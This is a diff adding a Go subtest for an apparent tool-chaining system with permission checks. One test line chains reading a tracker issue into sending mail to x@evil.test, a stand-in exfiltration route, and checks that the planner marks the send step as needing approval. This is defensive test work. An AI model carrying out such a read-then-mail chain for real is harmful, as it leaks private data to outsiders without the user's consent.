@@ -114,6 +114,21 @@ func TestFlow(t *testing.T) {
 			t.Errorf("%+v", run)
 		}
 	})
+	t.Run("by the command", func(t *testing.T) {
+		line := fmt.Sprintf(`notes.read_text_file --path %q + pick --jq length`, s.file(a))
+		out, errs, code := s.command("flow", "run", "--client", a.name(), line)
+		if code != 0 || strings.TrimSpace(out) != fmt.Sprint(len(secret)) || !strings.Contains(errs, "pick: allow, default") {
+			t.Errorf("%d: %q\n%s", code, out, errs)
+		}
+		mail := `tracker.read_issue + mail.send_mail --to x@evil.test --subject s --body b`
+		out, errs, code = s.command("flow", "plan", "--client", a.name(), mail)
+		if code != 0 || !strings.Contains(out, "mail.send_mail") || !strings.Contains(out, "ask") {
+			t.Errorf("%d: %s%s", code, out, errs)
+		}
+		if out := s.operate(0, "flow", "list"); !strings.Contains(out, "done") || !strings.Contains(out, a.name()) {
+			t.Errorf("%s", out)
+		}
+	})
 	t.Run("written once", func(t *testing.T) {
 		a.runTo(t, flows.Order{Form: "line", Text: write + " --content x"}, flows.Done)
 		if b, err := os.ReadFile(s.sharedFile(a)); err != nil || string(b) != "x" {
